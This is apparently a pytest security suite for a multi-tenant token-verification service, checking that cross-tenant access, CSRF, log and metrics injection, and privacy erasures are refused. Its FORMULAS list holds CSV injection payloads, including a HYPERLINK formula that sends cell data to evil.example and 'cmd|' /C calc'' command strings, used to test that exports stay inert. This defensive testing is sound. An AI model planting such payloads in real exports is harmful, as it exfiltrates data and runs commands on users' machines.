"""A hostile tenant, user and anonymous client against what round 3 added: the user memory and
claim-route memory, refusals that name the fix, the audit log and privacy requests, analytics
and CSV exports, metrics and request ids, the console's new pages, the guides' Basic password.

Each test is one attack; each asserts the refusal (or that the attack changed nothing), so that
a regression reopens a hole loudly. Where an attack succeeded, the test names the fix.
"""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import json
import logging
import re
from collections.abc import Iterator
from typing import Any

import jwt
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from plaudit.app import create_app
from plaudit.exports.cells import FORMULA_STARTS
from plaudit.exports.slots import SLOTS
from plaudit.settings import Settings
from plaudit.store.db import Database
from plaudit.users.models import User
from tests.console.conftest import ConsoleClient
from tests.limits.conftest import run_async
from tests.support import factories
from tests.support.service import (
    ADMIN,
    ADMIN_TOKEN,
    Clock,
    MakeClient,
    bearer,
    create_product,
    standard_claims,
    verify,
)

Product = dict[str, Any]


def _sign(product: Product, sub: str, iat: float, **claims: Any) -> str:
    return jwt.encode(
        standard_claims(product["id"], sub=sub, iat=iat, **claims),
        product["secret"]["value"],
        algorithm="HS256",
    )


def _key(product: Product) -> dict[str, str]:
    return bearer(product["api_key"])


@pytest.fixture
def two_apps(settings: Settings, db: Database, clock: Clock) -> Iterator[tuple[TestClient, ...]]:
    """Two processes on one store, each polling only when told (``_poll``)."""
    first = TestClient(
        create_app(settings, db=db, clock=clock, background=False), raise_server_exceptions=False
    )
    second = TestClient(
        create_app(settings, db=db, clock=clock, background=False), raise_server_exceptions=False
    )
    with first, second:
        yield first, second


def _poll(client: TestClient) -> None:
    client.app.state.verification.keystore.refresh()  # type: ignore[attr-defined]


# --- 1. the user memory and the claim-route memory -----------------------------------------


def test_a_remembered_user_is_never_served_from_a_row_that_now_holds_another_id(
    two_apps: tuple[TestClient, TestClient], db: Database, settings: Settings, clock: Clock
) -> None:
    """Process 2 remembers ann's row; process 1 erases ann (her row keeps its key, now under a
    pseudonym). Before process 2's next poll, a token of ann's there is answered as ann (a
    fresh profile), never from the erased row: the remembered key is checked against the
    token's user id (fixed in users/client.py; on SQLite a deleted row's key can even be
    reused by another user)."""
    first, second = two_apps
    acme = factories.product(db, settings, id="acme", published=True)
    assert second.get("/v1/me", headers=bearer(_sign(acme, "ann", clock.now))).status_code == 200
    erased = first.post("/v1/products/acme/users/ann/erase", headers=ADMIN)
    assert erased.status_code == 200, erased.text
    clock.advance(5)
    me = second.get("/v1/me", headers=bearer(_sign(acme, "ann", clock.now)))
    assert me.status_code == 200, me.text
    assert me.json()["user"]["id"] == "ann"
    with db.session() as session:
        ids = set(session.scalars(select(User.external_id).where(User.product_id == "acme")))
    assert "ann" in ids  # a new, unlinked profile
    assert any(i.startswith("erased_") for i in ids)


def test_a_product_deleted_and_made_again_elsewhere_never_keeps_its_old_keys_here(
    two_apps: tuple[TestClient, TestClient], clock: Clock
) -> None:
    """Process 2 verified acme's tokens; process 1 deletes acme and makes a new acme (same id,
    new secret, same version number). After process 2's poll, the old secret's tokens are
    refused there and the new one's verify: a product made again is another product."""
    first, second = two_apps
    old = create_product(first, id="acme")
    old_token = _sign(old, "ann", clock.now)
    assert verify(second, old_token).status_code == 200
    assert first.delete("/v1/products/acme", headers=ADMIN).status_code == 204
    new = create_product(first, id="acme")
    _poll(second)
    refused = verify(second, _sign(old, "eve", clock.now))
    assert refused.status_code == 401, refused.text
    assert verify(second, old_token).status_code == 401
    assert verify(second, _sign(new, "ann", clock.now)).status_code == 200


def test_a_route_remembered_for_a_token_moves_when_the_audience_moves(
    client: TestClient, clock: Clock
) -> None:
    """A token routed by its aud to bravo (bravo's audience) is remembered; once bravo gives
    that audience up and alpha takes it, the same token is routed afresh, to alpha, whose keys
    refuse it: no stale route carries bravo's token into alpha or keeps it at bravo."""
    alpha = create_product(client, id="alpha")
    bravo = create_product(client, id="bravo")
    patched = client.patch("/v1/products/bravo", json={"audience": "shop"}, headers=ADMIN)
    assert patched.status_code == 200, patched.text
    token = jwt.encode(
        {**standard_claims("x", iat=clock.now), "aud": "shop"},
        bravo["secret"]["value"],
        algorithm="HS256",
    )
    assert verify(client, token).json()["product"] == "bravo"
    client.patch("/v1/products/bravo", json={"audience": "bravo-shop"}, headers=ADMIN)
    moved = client.patch("/v1/products/alpha", json={"audience": "shop"}, headers=ADMIN)
    assert moved.status_code == 200, moved.text
    answer = verify(client, token)
    assert answer.status_code == 401, answer.text
    assert "'alpha'" in answer.json()["message"]
    assert "bravo" not in json.dumps(answer.json()).replace("'shop'", "")
    ok = jwt.encode(
        {**standard_claims("x", iat=clock.now), "aud": "shop"},
        alpha["secret"]["value"],
        algorithm="HS256",
    )
    assert verify(client, ok).json()["product"] == "alpha"


def test_an_external_id_shaped_like_another_products_key_stays_in_its_product(
    client: TestClient, clock: Clock
) -> None:
    """User ids crafted to collide with the memory's (product, user) key, or with another
    product's id, map one user of the token's own product each, and nothing of the other."""
    alpha = create_product(client, id="alpha")
    create_product(client, id="bob")
    for crafted in ("bob", "alpha\x1fbob", "('alpha', 'bob')", "bob\u200b", "BOB"):
        answer = client.get("/v1/me", headers=bearer(_sign(alpha, crafted, clock.now)))
        if "\x1f" in crafted:
            assert answer.status_code == 401  # a control character is no user id
            continue
        assert answer.status_code == 200, answer.text
        assert answer.json()["user"]["id"] == crafted
        assert answer.json()["product"]["id"] == "alpha"


# --- 2. refusals as an oracle ---------------------------------------------------------------


def test_a_value_two_products_answer_to_reads_as_one_no_product_answers(
    make_client: MakeClient, db: Database, settings: Settings, clock: Clock
) -> None:
    """An audience stored twice (a conflict from before the routing check) is answered, byte
    for byte, as an audience nobody has: the refusal says nothing of either product."""
    alpha = factories.product(db, settings, id="alpha", issuer="https://alpha.example")
    token = jwt.encode(
        {**standard_claims("x", iat=clock.now), "aud": "shared-aud"},
        alpha["secret"]["value"],
        algorithm="HS256",
    )
    before = verify(make_client(), token)
    factories.product(db, settings, id="bravo")
    with db.session() as session:  # two stored audiences, as migration-era data may hold
        from plaudit.products.models import Product as ProductRow

        for pid in ("alpha", "bravo"):
            row = session.get(ProductRow, pid)
            assert row is not None
            row.audience = "shared-aud"
    after = verify(make_client(), token)
    assert (before.status_code, before.json()) == (after.status_code, after.json())
    text = json.dumps(after.json())
    for leak in ("alpha", "bravo", "alpha.example", alpha["secret"]["kid"]):
        assert leak not in text


def test_the_explanation_endpoint_tells_nothing_of_the_product_that_signed_the_token(
    client: TestClient, clock: Clock
) -> None:
    """Alpha's key asks alpha to explain bravo's token: the answer names alpha only, and is the
    same once bravo is deleted (no oracle for bravo's key ids, issuer, audience or name)."""
    alpha = create_product(client, id="alpha")
    bravo = create_product(client, id="bravo", name="Bravo Secret Project")
    client.patch(
        "/v1/products/bravo",
        json={"issuer": "https://idp.bravo.example", "audience": "bravo-aud-9"},
        headers=ADMIN,
    )
    token = jwt.encode(
        {**standard_claims("bravo", iat=clock.now), "iss": "https://idp.bravo.example"},
        bravo["secret"]["value"],
        algorithm="HS256",
    )

    def explained() -> Any:
        answer = client.post(
            "/v1/products/alpha/token-explanations", json={"token": token}, headers=_key(alpha)
        )
        assert answer.status_code == 200, answer.text
        return answer.json()

    before = explained()
    assert client.delete("/v1/products/bravo", headers=ADMIN).status_code == 204
    assert explained() == before
    text = json.dumps(before)
    for leak in (bravo["secret"]["kid"], bravo["secret"]["value"], "bravo-aud-9", "Bravo Secret"):
        assert leak not in text
    other = client.post(
        "/v1/products/bravo/token-explanations", json={"token": token}, headers=_key(alpha)
    )
    assert other.status_code in (403, 404)


# --- 3. audit log and privacy ---------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"since": "0001-01-01T00:00:00+05:00"},
        {"until": "9999-12-31T23:59:59-05:00"},
        {"since": "0001-01-01T00:00:00+23:59"},
    ],
)
def test_an_audit_filter_time_at_the_calendars_edge_is_a_422_not_a_500(
    client: TestClient, params: dict[str, str]
) -> None:
    """A moment that leaves the calendar once read as UTC is refused, naming the field, on the
    tenant's log and on the operator's (fixed in audit/service.py)."""
    acme = create_product(client, id="acme")
    for path, headers in (("/v1/products/acme/audit", _key(acme)), ("/v1/audit", ADMIN)):
        answer = client.get(path, params=params, headers=headers)
        assert answer.status_code == 422, answer.text
        assert answer.json()["error"] == "invalid_request"


def test_the_operators_log_and_another_tenants_log_are_closed_to_a_products_key(
    client: TestClient,
) -> None:
    """Alpha's key: the operator's log is 403 with any filter; bravo's log, users' exports,
    erasures and privacy requests are 404, and nothing of bravo is erased."""
    alpha = create_product(client, id="alpha")
    bravo = create_product(client, id="bravo")
    assert verify(client, _sign(bravo, "bob", 1_764_000_000.0)).status_code == 200
    key = _key(alpha)
    for params in ({}, {"product": "bravo"}, {"product": "alpha"}):
        assert client.get("/v1/audit", params=params, headers=key).status_code == 403
    for method, path in (
        ("GET", "/v1/products/bravo/audit"),
        ("GET", "/v1/products/bravo/users/bob/export"),
        ("POST", "/v1/products/bravo/users/bob/erase"),
        ("GET", "/v1/products/bravo/privacy-requests"),
        ("GET", "/v1/products/alpha/users/bob/export"),
        ("POST", "/v1/products/alpha/users/bob/erase"),
    ):
        answer = client.request(method, path, headers=key)
        assert answer.status_code == 404, (method, path, answer.text)
    assert client.get("/v1/products/bravo/users/bob", headers=ADMIN).status_code == 200


def test_an_erased_user_leaves_no_id_email_or_share_link_behind(
    client: TestClient, clock: Clock
) -> None:
    """After an erasure: the operator's whole audit log, the users list and exports hold
    neither the id nor the email; the share link lands as an unknown code does; the old token
    is refused; the export is 404."""
    acme = create_product(client, id="acme")
    client.patch("/v1/products/acme", json={"published": True}, headers=ADMIN)
    sub, email = "ann-5d1e9", "ann.5d1e9@example.com"
    token = _sign(acme, sub, clock.now, email=email)
    assert verify(client, token).status_code == 200
    link = client.get("/v1/referrals/me", headers=bearer(token))
    assert link.status_code == 200, link.text
    code = link.json()["code"]
    adjust = client.post(
        f"/v1/products/acme/users/{sub}/points",
        json={"amount": 5, "reason": "welcome"},
        headers=ADMIN,
    )
    assert adjust.status_code in (200, 201), adjust.text
    assert client.post(f"/v1/products/acme/users/{sub}/erase", headers=ADMIN).status_code == 200
    seen = [
        client.get("/v1/audit", params={"limit": 200}, headers=ADMIN).text,
        client.get(
            "/v1/products/acme/users", params={"include_unlisted": True}, headers=ADMIN
        ).text,
        client.get("/v1/products/acme/privacy-requests", headers=ADMIN).text,
    ]
    for kind in ("users", "ledger", "referrals"):
        seen.append(client.get(f"/v1/products/acme/exports/{kind}", headers=ADMIN).text)
    for text in seen:
        assert sub not in text
        assert email not in text
    unknown = client.get("/r/NOSUCHCODE1", follow_redirects=False)
    followed = client.get("/r/" + code, follow_redirects=False)
    assert followed.status_code == 302
    assert followed.headers["location"] == unknown.headers["location"]
    assert verify(client, token).status_code == 401
    assert client.get(f"/v1/products/acme/users/{sub}/export", headers=ADMIN).status_code == 404


# --- 4. analytics and CSV exports -----------------------------------------------------------

#: Values a user may get signed into their token (their name, their code) that a spreadsheet
#: would run.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_no_cell_of_any_export_starts_a_formula_whatever_the_users_tokens_carry(
    client: TestClient, clock: Clock
) -> None:
    """User ids, names, emails and referral codes carrying formulas, mapped from tokens and a
    referral, come out of every CSV export as inert text."""
    acme = create_product(client, id="acme")
    for n, formula in enumerate(FORMULAS):
        token = _sign(
            acme,
            f"{formula.strip()[:1]}u{n}",
            clock.now,
            first_name=formula,
            name=formula,
            referral_code=f"{formula.strip()[:1]}code{n}",
        )
        assert client.get("/v1/me", headers=bearer(token)).status_code == 200
    for kind in ("users", "ledger", "referrals"):
        answer = client.get(f"/v1/products/acme/exports/{kind}", headers=_key(acme))
        assert answer.status_code == 200, answer.text
        for row in csv.reader(io.StringIO(answer.text)):
            for value in row:
                assert not value.startswith(FORMULA_STARTS), (kind, value)


@pytest.mark.parametrize(
    ("path", "params", "status"),
    [
        ("/analytics", {"from": "1926-01-01", "to": "2026-01-01"}, 422),
        ("/analytics", {"from": "0001-01-01", "to": "0001-01-02"}, 422),
        ("/analytics", {"to": "9999-12-31"}, 422),
        ("/exports/users", {"from": "0001-01-01", "to": "9999-12-31"}, 200),
        ("/exports/ledger", {"from": "9999-12-31"}, 200),
        ("/exports/referrals", {"to": "0001-01-01"}, 200),
    ],
)
def test_a_period_at_or_past_the_calendars_edge_is_refused_or_bounded_never_a_500(
    client: TestClient, path: str, params: dict[str, str], status: int
) -> None:
    """A dashboard spans at most a year (a century is a 422 naming 'from'); an export's
    window may be any days, streamed, and the calendar's ends are no 500."""
    acme = create_product(client, id="acme")
    answer = client.get("/v1/products/acme" + path, params=params, headers=_key(acme))
    assert answer.status_code == status, answer.text


def test_another_tenants_analytics_and_exports_do_not_exist_for_a_products_key(
    client: TestClient,
) -> None:
    """Alpha's key reads none of bravo's dashboards or exports: 404, as an unknown product."""
    alpha = create_product(client, id="alpha")
    create_product(client, id="bravo")
    for path in ("/analytics", "/exports/users", "/exports/ledger", "/exports/referrals"):
        answer = client.get("/v1/products/bravo" + path, headers=_key(alpha))
        assert answer.status_code == 404, (path, answer.text)


# --- 5. metrics, request ids and log lines --------------------------------------------------


@pytest.fixture
def scraped(make_client: MakeClient) -> TestClient:
    return make_client(metrics_token="m" * 40)


def test_the_metrics_token_opens_metrics_and_nothing_else(scraped: TestClient) -> None:
    """The scrape token is no management credential, nor a user token, anywhere."""
    metrics = bearer("m" * 40)
    assert scraped.get("/metrics", headers=metrics).status_code == 200
    assert scraped.get("/v1/products", headers=metrics).status_code == 401
    assert scraped.get("/v1/audit", headers=metrics).status_code == 401
    assert scraped.get("/v1/auth/verify", headers=metrics).status_code == 401
    for wrong in ("", "Bearer ", "Bearer " + "m" * 39, "Basic " + "m" * 40, ADMIN["Authorization"]):
        assert scraped.get("/metrics", headers={"Authorization": wrong}).status_code == 401


def test_hostile_paths_and_request_ids_add_no_series(scraped: TestClient) -> None:
    """Raw paths, product ids, and request ids of any size or shape never become a label: after
    60 hostile requests every route label is still a template (or 'unmatched')."""
    metrics = bearer("m" * 40)
    for n in range(20):
        scraped.get(f"/nope/{n}", headers={"X-Request-ID": "x" * (1 << 20)})
        scraped.get(f"/v1/products/p{n}/users", headers={"X-Request-ID": f"id-{n}\x1b[31m"})
        scraped.get(f"/v1/products/p{n}/audit?since={n}", headers={"X-Request-ID": '"}{"a":1'})
    body = scraped.get("/metrics", headers=metrics).text
    routes = set(re.findall(r'route="([^"]*)"', body))
    assert "unmatched" in routes
    assert "/v1/products/{product_id}/users" in routes
    assert all(
        r == "unmatched" or (r.startswith("/") and "{" in r) or "p1" not in r for r in routes
    )
    labels = " ".join(re.findall(r"\{[^}]*\}", body))
    for leak in ("/nope/", "products/p1", "id-1", "xxxxxxxx", '\\"a\\"'):
        assert leak not in labels, leak


@pytest.mark.parametrize(
    "inbound",
    ["x" * (1 << 20), "ok\x1b[2J", 'a"}, {"level": "critical', "a b", "\u2028line", "é"],
)
def test_a_hostile_request_id_is_replaced_before_it_reaches_a_header_or_a_log(
    settings: Settings,
    db: Database,
    clock: Clock,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    inbound: str,
) -> None:
    """A megabyte, a terminal escape, a JSON-breaking quote, a space, a line separator: the
    caller gets a new id back and the access log line is one JSON object carrying the new id."""
    import structlog

    from plaudit import logs
    from plaudit.operations import requests

    configured = settings.model_copy(update={"log_json": True, "access_log": True})
    logs.configure(configured)
    monkeypatch.setattr(requests, "log", structlog.get_logger("plaudit.access"))
    app = create_app(configured, db=db, clock=clock, background=False)
    try:
        with TestClient(app, raise_server_exceptions=False) as client:
            answer = client.get("/healthz", headers=[(b"x-request-id", inbound.encode())])
        err = capsys.readouterr().err
    finally:
        structlog.reset_defaults()
        logging.basicConfig(force=True, handlers=[logging.NullHandler()])
    given = answer.headers["x-request-id"]
    assert given != inbound
    assert len(given) <= 128
    lines = [json.loads(line) for line in err.splitlines() if line.startswith("{")]
    assert any(line.get("request_id") == given for line in lines), err
    assert inbound[:64] not in err


def test_no_log_line_carries_a_credential_sent_anywhere(
    settings: Settings,
    db: Database,
    clock: Clock,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """API key, admin token, metrics token, signing secret (as a Basic password), a user token
    in a header and in a query: none of them in any log line, refused or accepted."""
    import base64

    import structlog

    from plaudit import logs
    from plaudit.operations import requests

    configured = settings.model_copy(
        update={"log_json": True, "access_log": True, "metrics_token": "q" * 40}
    )
    logs.configure(configured)
    monkeypatch.setattr(requests, "log", structlog.get_logger("plaudit.access"))
    acme = factories.product(db, settings, id="acme")
    token = _sign(acme, "ann", clock.now)
    secret = acme["secret"]["value"]
    basic = base64.b64encode(f"acme:{secret}".encode()).decode()
    app = create_app(configured, db=db, clock=clock, background=False)
    try:
        with TestClient(app, raise_server_exceptions=False) as client:
            client.get("/v1/products/acme", headers=_key(acme))
            client.get("/v1/products/acme", headers=bearer(acme["api_key"] + "x"))
            client.get("/v1/audit", headers=ADMIN)
            client.get("/metrics", headers=bearer("q" * 40))
            client.get("/v1/auth/verify", headers=bearer(token))
            client.get("/v1/auth/verify", headers=bearer(token[:-3] + "AAA"))
            client.get("/v1/me", params={"token": token})
            client.post(
                "/api/v1/acme/open/account/a1/user/ann",
                json={"id": "ann"},
                headers={"Authorization": "Basic " + basic},
            )
        err = capsys.readouterr()
    finally:
        structlog.reset_defaults()
        logging.basicConfig(force=True, handlers=[logging.NullHandler()])
    logged = err.out + err.err
    assert '"route"' in logged  # the access lines were written
    for credential in (
        acme["api_key"],
        ADMIN_TOKEN,
        "q" * 40,
        secret,
        basic,
        token.split(".")[2],
    ):
        assert credential not in logged, credential[:12]


# --- 6. the console's new pages -------------------------------------------------------------


def test_an_api_key_session_reaches_no_other_products_rows_through_any_form(
    client: TestClient, clock: Clock
) -> None:
    """Signed in with alpha's key: bravo's pages are 404, and bravo's revocation, JWKS source
    and API key ids posted through alpha's forms are 404 and change nothing of bravo's."""
    alpha = create_product(client, id="alpha")
    bravo = create_product(client, id="bravo")
    revoked = client.post(
        "/v1/products/bravo/revocations", json={"user_id": "eve"}, headers=_key(bravo)
    )
    assert revoked.status_code == 201, revoked.text
    revocation_id = revoked.json()["id"]
    browser = ConsoleClient(client)
    assert browser.sign_in(alpha["api_key"]).status_code == 303
    base = "/console/products/"
    for page in ("api-keys", "jwks-sources", "revocations", "leaderboards", "audit", "privacy"):
        assert browser.get(base + "bravo/" + page).status_code == 404, page
    posts = [
        ("alpha/revocations/delete", {"id": str(revocation_id)}),
        ("alpha/jwks-sources/delete", {"id": "1"}),
        ("alpha/api-keys/revoke", {"id": bravo["api_key"].split("_")[1]}),
        ("bravo/revocations/delete", {"id": str(revocation_id)}),
        ("bravo/api-keys", {"name": "mine now"}),
        ("bravo/privacy/erase", {"user": "eve", "confirm": "eve"}),
        ("bravo/leaderboards/refresh", {}),
    ]
    for path, form in posts:
        answer = browser.post(base + path, form)
        assert answer.status_code == 404, (path, answer.status_code)
    listed = client.get("/v1/products/bravo/revocations", headers=_key(bravo)).json()
    assert [r["id"] for r in listed] == [revocation_id]
    keys = client.get("/v1/products/bravo/api-keys", headers=_key(bravo)).json()
    assert len(keys) == 1


def test_a_console_post_without_its_csrf_token_changes_nothing(client: TestClient) -> None:
    """Every new page's form, posted as a cross-site page would (no token, another session's
    token): 403, nothing made or removed."""
    create_product(client, id="acme")
    browser = ConsoleClient(client)
    assert browser.sign_in(ADMIN_TOKEN).status_code == 303
    base = "/console/products/acme/"
    forms = [
        ("api-keys", {"name": "csrf"}),
        ("revocations", {"user_id": "ann"}),
        ("jwks-sources/refresh", {}),
        ("leaderboards/refresh", {}),
        ("privacy/erase", {"user": "ann", "confirm": "ann"}),
    ]
    for token in (None, "x" * 43):
        for path, form in forms:
            data = form if token is None else {**form, "csrf_token": token}
            answer = client.post(base + path, data=data, follow_redirects=False)
            assert answer.status_code == 403, (path, answer.status_code)
    assert client.get("/v1/products/acme/revocations", headers=ADMIN).json() == []
    assert len(client.get("/v1/products/acme/api-keys", headers=ADMIN).json()) == 1


def test_a_flash_of_one_products_new_key_is_not_shown_on_another_products_page(
    client: TestClient,
) -> None:
    """The operator makes a key on alpha's page; the sealed flash, carried to bravo's page by
    the same session, shows nothing there, and alpha's page shows it once."""
    create_product(client, id="alpha")
    create_product(client, id="bravo")
    browser = ConsoleClient(client)
    assert browser.sign_in(ADMIN_TOKEN).status_code == 303
    made = browser.post("/console/products/alpha/api-keys", {"name": "ci"})
    assert made.status_code == 303
    sealed = made.cookies["plaudit_console_flash"]
    elsewhere = client.get("/console/products/bravo/api-keys")
    assert elsewhere.status_code == 200
    client.cookies.set("plaudit_console_flash", sealed, path="/console")
    shown = client.get("/console/products/alpha/api-keys")
    values = set(re.findall(r"pk_[A-Za-z0-9_-]{20,}", shown.text))
    assert len(values) == 1
    assert values.pop() not in elsewhere.text


# --- 7. the guides' Basic password -----------------------------------------------------------


def test_a_signing_secret_sent_as_the_basic_password_is_never_read_stored_or_echoed(
    client: TestClient,
) -> None:
    """The HMAC secret as the open endpoint's Basic password: 401, nothing written; the secret
    is in no answer, no failure report, no audit entry."""
    import base64

    acme = create_product(client, id="acme")
    secret = acme["secret"]["value"]
    for user_part in ("acme", "", acme["api_key"]):
        basic = base64.b64encode(f"{user_part}:{secret}".encode()).decode()
        answer = client.post(
            "/api/v1/acme/open/account/a1/user/ann",
            json={"id": "ann", "email": "ann@example.com"},
            headers={"Authorization": "Basic " + basic},
        )
        assert answer.status_code == 401, answer.text
        assert secret not in answer.text
    assert client.get("/v1/products/acme/users/ann", headers=ADMIN).status_code == 404
    for path in ("/v1/products/acme/auth-failures", "/v1/products/acme/audit"):
        seen = client.get(path, headers=ADMIN)
        assert seen.status_code == 200, (path, seen.text)
        assert secret not in seen.text


def test_another_products_api_key_as_the_basic_password_writes_nothing(
    client: TestClient,
) -> None:
    """Bravo's API key as the Basic password on alpha's open endpoint is refused like an unknown
    product; no user of alpha's is written."""
    import base64

    create_product(client, id="alpha")
    bravo = create_product(client, id="bravo")
    basic = base64.b64encode(f":{bravo['api_key']}".encode()).decode()
    answer = client.post(
        "/api/v1/alpha/open/account/a1/user/mallory",
        json={"id": "mallory"},
        headers={"Authorization": "Basic " + basic},
    )
    assert answer.status_code in (403, 404), answer.text
    assert client.get("/v1/products/alpha/users/mallory", headers=ADMIN).status_code == 404
    assert client.get("/v1/products/bravo/users/mallory", headers=ADMIN).status_code == 404


async def _downloads(
    app: Any, calls: list[tuple[str, str]], *, hold: int, during: Any = None
) -> list[int]:
    """Start ``calls`` (product, API key) as export downloads whose first ``hold`` clients stop
    reading at the first chunk; once those hold their streams, start the rest; then let the
    held ones go. Returns each call's status."""
    release = asyncio.Event()
    statuses: list[list[int]] = [[] for _ in calls]

    def download(n: int, product_id: str, key: str) -> Any:
        async def receive() -> dict[str, Any]:
            await release.wait()
            return {"type": "http.disconnect"}

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                statuses[n].append(message["status"])
            elif n < hold and message.get("body"):
                statuses[n].append(0)  # reading stopped here
                await release.wait()

        path = f"/v1/products/{product_id}/exports/users"
        scope = {
            "type": "http",
            "asgi": {"version": "3.0"},
            "http_version": "1.1",
            "method": "GET",
            "scheme": "http",
            "path": path,
            "raw_path": path.encode(),
            "query_string": b"",
            "root_path": "",
            "headers": [(b"authorization", f"Bearer {key}".encode())],
            "client": ("203.0.113.7", 50000),
            "server": ("plaudit.test", 80),
            "state": {},
        }
        return app(scope, receive, send)

    held = [asyncio.create_task(download(n, *calls[n])) for n in range(hold)]
    for _ in range(400):  # 20 s at most for the held ones to reach their first chunk
        if all(0 in statuses[n] for n in range(hold)):
            break
        await asyncio.sleep(0.05)
    rest = [asyncio.create_task(download(n, *calls[n])) for n in range(hold, len(calls))]
    await asyncio.wait_for(asyncio.gather(*rest), 30)
    meanwhile = [await asyncio.to_thread(during)] if during is not None else []
    release.set()
    await asyncio.wait_for(asyncio.gather(*held, return_exceptions=True), 30)
    return [s[0] if s else -1 for s in statuses] + meanwhile


@pytest.mark.committed
def test_a_tenant_holding_slow_downloads_takes_only_its_own_export_slots(
    client: TestClient,
) -> None:
    """Alpha opens downloads and stops reading: its third is refused (429) at once, before any
    connection is taken, while bravo still downloads; once alpha's clients go, its slots come
    back; and another tenant's write goes through meanwhile (fixed: exports/slots.py, and
    ``Database.read_session``: before, each stalled download held a pooled connection without
    end, 20 of them starved every tenant, and on SQLite one held the write lock of all)."""
    alpha = create_product(client, id="alpha")
    bravo = create_product(client, id="bravo")
    a, b = ("alpha", alpha["api_key"]), ("bravo", bravo["api_key"])

    def write_bravo() -> int:
        answer = client.patch("/v1/products/bravo", json={"leeway_seconds": 3}, headers=ADMIN)
        return answer.status_code

    statuses = run_async(_downloads(client.app, [a, a, a, b], hold=2, during=write_bravo))
    assert statuses == [200, 200, 429, 200, 200]  # and bravo's write went through meanwhile
    gc.collect()
    assert SLOTS.held("alpha") == 0
    assert client.get("/v1/products/alpha/exports/users", headers=_key(alpha)).status_code == 200
    assert SLOTS.held("alpha") == 0
